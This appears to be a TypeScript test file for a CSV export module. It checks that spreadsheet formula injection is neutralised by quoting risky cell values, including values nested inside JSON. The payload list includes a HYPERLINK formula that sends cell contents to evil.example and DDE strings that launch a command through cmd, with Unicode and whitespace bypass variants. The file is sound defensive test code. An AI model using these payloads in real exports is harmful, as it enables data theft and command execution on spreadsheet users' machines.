/* eslint-disable no-control-regex -- the oracle skips control characters too */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import {
  createCsvStream,
  neutraliseSpreadsheetFormula,
  neutraliseSpreadsheetFormulasDeep,
  toCsv,
} from './csv';

const payloads = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0bcmd',
  '\uff20SUM(A1)',
  '\uff0d2+3',
  '"=1+1',
  '" =HYPERLINK("http://evil.example")',
  '""@SUM(A1)',
  '"\t+cmd',
];

describe('neutraliseSpreadsheetFormulasDeep', () => {
  it('neutralises every string of a JSON document at any depth and keeps the rest', () => {
    const document = {
      title: 'Evidence',
      props: payloads.map(value => ({ name: 'note', value })),
      nested: { deeper: [[{ remarks: '@SUM(A1)' }]], count: 3, ok: true },
      missing: null,
      '=key': 'plain',
    };
    const safe = neutraliseSpreadsheetFormulasDeep(document);
    expect(safe).toEqual({
      title: 'Evidence',
      props: payloads.map(value => ({ name: 'note', value: `'${value}` })),
      nested: { deeper: [[{ remarks: "'@SUM(A1)" }]], count: 3, ok: true },
      missing: null,
      '=key': 'plain',
    });
    // A copy: the recorded document is left as it was.
    expect(document.nested.deeper[0][0].remarks).toBe('@SUM(A1)');
  });
});

describe('neutraliseSpreadsheetFormula', () => {
  it.each(payloads)('prefixes %j with a quote', payload => {
    expect(neutraliseSpreadsheetFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['-12.5', '42', '+3', '1e-7', '.5', 'plain text', 'a=b', ''])(
    'leaves %j as it is',
    value => {
      expect(neutraliseSpreadsheetFormula(value)).toBe(value);
    },
  );

  it('never lets a cell start a formula, whatever the text', () => {
    expect(() =>
      fc.assert(
        fc.property(fc.string({ unit: 'binary' }), text => {
          const out = neutraliseSpreadsheetFormula(text);
          const start = out.replace(
            /^[\s\u0000-\u001f\u007f-\u009f\ufeff"]+/,
            '',
          );
          const startsFormula =
            /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(start) &&
            !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(out);
          return out.startsWith("'") || !startsFormula;
        }),
      ),
    ).not.toThrow();
  });
});

describe('toCsv', () => {
  type Row = { name: string; cost: number; tags?: string[] };
  const columns = [
    { header: 'name', value: (r: Row) => r.name },
    { header: 'cost', value: (r: Row) => r.cost },
    { header: 'tags', value: (r: Row) => r.tags },
  ];

  it('writes a header and rows that read back to the neutralised values', () => {
    const csv = toCsv(
      [
        { name: '=HYPERLINK("x")', cost: -2.5, tags: ['a', 'b'] },
        { name: 'line one\nline "two"', cost: 3 },
      ],
      columns,
    );
    expect(parse(csv)).toEqual([
      ['name', 'cost', 'tags'],
      ['\'=HYPERLINK("x")', '-2.5', 'a b'],
      ['line one\nline "two"', '3', ''],
    ]);
  });

  it('writes non-finite numbers as empty cells', () => {
    expect(parse(toCsv([{ name: 'x', cost: Infinity }], columns))[1][1]).toBe(
      '',
    );
  });
});

describe('createCsvStream', () => {
  it('streams the same text toCsv builds', async () => {
    const rows = [{ v: '@cmd' }, { v: '7' }];
    const columns = [{ header: 'v', value: (r: { v: string }) => r.v }];
    const csv = createCsvStream(columns);
    const chunks: string[] = [];
    csv.stream.on('data', c => chunks.push(String(c)));
    const done = new Promise(resolve => csv.stream.on('end', resolve));
    rows.forEach(r => csv.write(r));
    csv.end();
    await done;
    expect(chunks.join('')).toBe(toCsv(rows, columns));
  });
});
